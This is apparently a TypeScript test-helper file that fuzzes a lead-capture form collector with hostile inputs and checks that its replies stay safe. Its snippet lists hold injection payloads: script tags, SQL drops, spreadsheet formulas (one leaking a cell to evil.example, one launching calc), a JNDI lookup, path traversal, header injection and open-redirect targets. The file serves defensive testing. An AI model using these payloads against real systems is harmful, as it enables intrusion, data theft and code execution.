// Hostile values and the checks every reply must pass, for the hostile-input tests.
import fc from "fast-check";
import { expect } from "vitest";
import type { Language } from "../../shared/languages.js";
import type { LeadJson } from "../../shared/admin-api.js";
import { stripFormatCharacters } from "../../shared/format-characters.js";
import { canonicalAddress } from "../../shared/email-address.js";
import { oneLine } from "../../shared/one-line.js";
import { oneAddress } from "../mail/one-address.js";
import { isEmailAddress, TEAM_SIZES, WORKSHOP_INTERESTS, type FormKind } from "../../shared/lead-forms.js";
import type { HttpReply } from "./raw-http.js";

/** Markup, spreadsheet formulas, SQL and template syntax, scripts and odd Unicode: legal text. */
export const HOSTILE_SNIPPETS = [
  "<script>alert(1)</script>",
  "</textarea><img src=x onerror=alert(1)>",
  "<b>Ninguém</b>",
  '"><svg onload=alert(1)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "'; DROP TABLE leads; --",
  '" OR 1=1 --',
  "Robert'); DROP TABLE students;--",
  "%s%n%x%d",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../etc/passwd",
  "C:\\Windows\\System32",
  "😀👩‍💻🇧🇷",
  "مرحبا بالعالم",
  "שלום \u202Eevil\u202C",
  "Ação Ninguém",
  "漢字テスト",
  "Z̴̡̧a̷l̶g̵o̸",
  "a\u200Bb\u200Dc",
  "\uFFFD replacement",
  "line 1\r\nBcc: victim@example.com",
  "tab\tseparated",
  "null",
  "undefined",
  "[object Object]",
  "__proto__",
  "constructor",
  "NEAR(a b) AND c OR -d*",
  "\"quoted\" 'single' `back`",
  "100%",
  "a_b%c\\d",
] as const;

const noNul = (value: string) => !value.includes("\u0000");

/** A value the collector must store exactly as sent: trimmed, not empty, at most `max` units. */
export function hostileText(max: number): fc.Arbitrary<string> {
  const piece = fc.oneof(fc.constantFrom(...HOSTILE_SNIPPETS), fc.string({ unit: "grapheme", maxLength: 24 }));
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_SNIPPETS) },
      { weight: 2, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 60 }) },
      { weight: 3, arbitrary: fc.array(piece, { minLength: 2, maxLength: 6 }).map((pieces) => pieces.join(" ")) },
    )
    .map((value) => value.trim())
    .filter((value) => oneLine(value) !== "" && value.length <= max && noNul(value));
}

/** A text field as the collector stores it: without bidi and C1 controls, trimmed. */
export function stored(value: string): string {
  return stripFormatCharacters(value).trim();
}

/** A single-line value as the collector keeps it: on one line (shared/one-line.ts). */
export function storedLine(value: string): string {
  return oneLine(value);
}

/** Up to 5,000 characters, sometimes near the bound. */
function hostileMessage(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: hostileText(5000) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(hostileText(200), fc.integer({ min: 1, max: 4700 }))
        .map(([text, length]) => `${text} ${"ç".repeat(length)}`.slice(0, 5000).trim()),
    },
  );
}

const LOCAL_PARTS = ["ada", "<script>", '=HYPERLINK("x")', "'--", '"quoted"', "+1", "-2", "o'neil", "joão", "😀"];
const DOMAINS = ["example.com", "evil.example", "xn--bcher-kva.example", "例え.テスト", "sub.domain.co"];

/** Addresses the collector accepts, hostile local parts and domains included. */
function hostileEmail(): fc.Arbitrary<string> {
  const local = fc.oneof(
    fc.constantFrom(...LOCAL_PARTS),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 }).filter((s) => !/[\s@]/.test(s)),
  );
  const domain = fc.oneof(
    fc.constantFrom(...DOMAINS),
    fc
      .tuple(fc.string({ unit: "grapheme", minLength: 1, maxLength: 12 }), fc.constantFrom("com", "io", "テスト"))
      .map(([name, tld]) => `${name}.${tld}`),
  );
  return (
    fc
      .tuple(local, domain)
      .map(([l, d]) => `${l}@${d}`)
      // Kept on one line like every single-line field (issue 49): a look-alike space such as a
      // Hangul filler inside the address would become a space, and the address would be refused.
      .filter((email) => email === storedLine(email) && isEmailAddress(email) && noNul(email))
  );
}

/** Strings the collector must refuse as an e-mail address. */
export const INVALID_EMAILS = [
  "ada",
  "a@b",
  "a b@example.com",
  "@example.com",
  "ada@@example.com",
  "=1+1",
  "ada@example.",
  '"victim"@example.com',
  "x@[10.0.0.5]",
  "x@10.0.0.5",
  "",
];

/** Printable ASCII, which is all a header value is sure to carry. */
function hostileUserAgent(): fc.Arbitrary<string> {
  return fc
    .oneof(
      fc.constantFrom("Mozilla/5.0 <script>alert(1)</script>", '=HYPERLINK("x")', "'; DROP TABLE leads; --"),
      fc.string({ unit: "binary-ascii", minLength: 1, maxLength: 700 }).map((s) => s.replace(/[^\x20-\x7e]/g, "x")),
    )
    .map((s) => s.trim())
    .filter((s) => s !== "");
}

/** What a lead should look like in storage (and in the inbox) once accepted. */
export type ExpectedLead = Omit<
  LeadJson,
  | "id"
  | "receivedAt"
  | "replyBy"
  | "handled"
  | "overdue"
  | "booking"
  | "spamReasons"
  // The owner's work on a lead (issue 39), not what was sent.
  | "stage"
  | "lostReason"
  | "followUpOn"
  | "followUpDue"
  | "stale"
  | "assignedTo"
  | "value"
  | "dealCurrency"
  | "history"
  | "notes"
>;

/** A valid submission: the fields to send (all strings) and what storing it must give. */
export interface LeadCase {
  fields: Record<string, string>;
  expected: ExpectedLead;
  /** The `next` of the success reply; undefined when any path on this site will do. */
  next: string | undefined;
  userAgent: string;
  /** The field holding the message: `context` or `currentChallenges`. */
  messageField: "context" | "currentChallenges";
}

// `_language` values and the language they mean (trimmed, case and region ignored).
const LANGUAGES: [string | undefined, Language][] = [
  [undefined, "en"],
  ["en", "en"],
  ["pt", "pt"],
  ["pt-BR", "pt"],
  ["EN", "en"],
  ["pt_br", "pt"],
  ["fr", "en"],
  ["<b>pt</b>", "en"],
  ["", "en"],
];

// `_next` values and where the visitor goes: a path on this site (non-ASCII percent-encoded, as a
// Location header needs), else (null) the thank-you page.
const NEXTS: [string | undefined, string | null][] = [
  [undefined, null],
  ["/en/thanks", "/en/thanks"],
  ["/pt/obrigado?from=<script>&x='\"", "/pt/obrigado?from=<script>&x='\""],
  ["/%2F%2Fevil.example", "/%2F%2Fevil.example"],
  ["/pt/obrigado?nome=João&x=漢字😀", "/pt/obrigado?nome=Jo%C3%A3o&x=%E6%BC%A2%E5%AD%97%F0%9F%98%80"],
  ["/pt/obrigado#é", "/pt/obrigado#%C3%A9"],
  ["//evil.example", null],
  ["/\\evil.example", null],
  ["https://evil.example", null],
  ["javascript:alert(1)", null],
  ["/\t/evil.example", null],
  ["/\u2028/evil.example", null],
  ["", null],
];

/** A `_next` and where it must send the visitor: known, the thank-you page (null), or any path on this site (undefined). */
const nextArbitrary: fc.Arbitrary<[string | undefined, string | null | undefined]> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NEXTS) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: "binary", maxLength: 30 }).map((s): [string, undefined] => [`/${s}`, undefined]),
  },
);

const NO_LINK = (name: string) => !/https?:\/\/|www\./i.test(name);

export function leadCase(): fc.Arbitrary<LeadCase> {
  return fc
    .record({
      form: fc.constantFrom<FormKind>("consulting", "discovery"),
      name: hostileText(200).filter(NO_LINK),
      email: hostileEmail(),
      company: hostileText(200),
      message: hostileMessage(),
      teamSize: fc.constantFrom(undefined, "", ...TEAM_SIZES),
      workshopInterest: fc.constantFrom(undefined, "", ...WORKSHOP_INTERESTS),
      language: fc.constantFrom(...LANGUAGES),
      next: nextArbitrary,
      subject: fc.option(hostileText(200), { nil: undefined }),
      replyTo: fc.option(fc.oneof(hostileEmail(), fc.constant("not an address")), { nil: undefined }),
      userAgent: hostileUserAgent(),
    })
    .map((draw) => {
      const messageField = draw.form === "consulting" ? ("context" as const) : ("currentChallenges" as const);
      const [languageValue, language] = draw.language;
      const [nextValue, destination] = draw.next;
      const fields: Record<string, string> = {
        name: draw.name,
        email: draw.email,
        company: draw.company,
        [messageField]: draw.message,
      };
      if (draw.form === "discovery") {
        if (draw.teamSize !== undefined) fields.teamSize = draw.teamSize;
        if (draw.workshopInterest !== undefined) fields.workshopInterest = draw.workshopInterest;
      }
      if (languageValue !== undefined) fields._language = languageValue;
      if (nextValue !== undefined) fields._next = nextValue;
      if (draw.subject !== undefined) fields._subject = draw.subject;
      if (draw.replyTo !== undefined) fields._replyto = draw.replyTo;
      const discovery = draw.form === "discovery";
      return {
        fields,
        messageField,
        next: destination === null ? `/${language}/thanks` : destination,
        userAgent: draw.userAgent,
        expected: {
          form: draw.form,
          language,
          name: storedLine(draw.name),
          email: canonicalAddress(draw.email),
          company: storedLine(draw.company),
          message: stored(draw.message),
          teamSize: discovery && draw.teamSize ? draw.teamSize : null,
          workshopInterest: discovery ? draw.workshopInterest || "4-hour" : null,
          subject: (draw.subject !== undefined && storedLine(draw.subject)) || null,
          replyTo: (draw.replyTo !== undefined && oneAddress(draw.replyTo)) || null,
          status: "new",
          clientAddress: "127.0.0.0",
          userAgent: draw.userAgent.slice(0, 512),
        },
      };
    });
}

/** Field names that mean something to a parser or to JavaScript objects, never to us. */
export const HOSTILE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "isPrototypeOf",
  "_unknown",
  "name[]",
  "email[0]",
  "a.b",
  "<script>",
  "'; DROP TABLE leads; --",
  "",
] as const;

/** A multipart/form-data body built by hand, so that what is sent is exactly what is given. */
export function multipart(
  entries: [string, string | Buffer][],
  boundary = "----hostile0boundary7MA4YWxkTrZu0gW",
): {
  body: Buffer;
  contentType: string;
} {
  const parts: Buffer[] = [];
  for (const [name, value] of entries) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n`));
    parts.push(typeof value === "string" ? Buffer.from(value) : value);
    parts.push(Buffer.from("\r\n"));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

export function urlencoded(entries: [string, string][]): string {
  return new URLSearchParams(entries).toString();
}

// A stack frame, a source path or a Node internal: none of it belongs in a reply.
const STACK =
  /\n\s+at \S|\bat \S+ \(\S+:\d+:\d+\)|\/work\/|file:\/\/|node:internal|node_modules|\.(?:ts|js|mjs|cjs):\d+:\d+/;

/** Status codes an error reply may have: documented ones, or Fastify's for unusable URLs. */
const ERROR_STATUSES = new Set([400, 401, 403, 404, 408, 413, 414, 415, 417, 422, 429, 431]);

/** What every reply must be, whoever answers: no 5xx, and errors as JSON with a code. */
export function checkReply(reply: HttpReply, describe: string, options: { head?: boolean } = {}): void {
  const where = `${describe} → ${reply.status} ${reply.text.slice(0, 300)}`;
  expect(reply.status, where).toBeGreaterThanOrEqual(200);
  expect(reply.status, where).toBeLessThan(500);
  expect(STACK.test(reply.text), `a stack or a path in ${where}`).toBe(false);
  if (reply.status < 400 || options.head) return;
  expect(ERROR_STATUSES.has(reply.status), where).toBe(true);
  const type = reply.headers["content-type"] ?? "";
  if (type.startsWith("text/html")) {
    // The collector's no-JavaScript error page, for a request that did not ask for JSON.
    expect(reply.text, where).toMatch(/^<!doctype html><html lang="(?:en|pt-BR)">/);
    return;
  }
  expect(type, where).toMatch(/^application\/json/);
  let body: unknown;
  try {
    body = JSON.parse(reply.text);
  } catch {
    throw new Error(`Not JSON: ${where}`);
  }
  expect(typeof body, where).toBe("object");
  const { code, error, errors } = body as { code?: unknown; error?: unknown; errors?: unknown };
  expect(typeof error, where).toBe("string");
  if (code !== undefined) {
    expect(typeof code, where).toBe("string");
    return;
  }
  // The collector's field errors (Formspree's protocol): the codes are per field.
  expect(Array.isArray(errors) && errors.length > 0, where).toBe(true);
  for (const item of errors as { field?: unknown; code?: unknown; message?: unknown }[]) {
    expect(typeof item.field, where).toBe("string");
    expect(typeof item.code, where).toBe("string");
    expect(typeof item.message, where).toBe("string");
  }
}

/** The code of a JSON error reply (the first field error's for field errors). */
export function codeOf(reply: HttpReply): string | undefined {
  try {
    const body = JSON.parse(reply.text) as { code?: string; errors?: { code?: string }[] };
    return body.code ?? body.errors?.[0]?.code;
  } catch {
    return undefined;
  }
}

/** A success's `next`: a path on this site, never another site, in ASCII (a Location header). */
export function checkNext(next: unknown, where: string): void {
  expect(typeof next, where).toBe("string");
  expect(next as string, where).toMatch(/^\/(?![/\\])[\x21-\x7e]*$/);
}
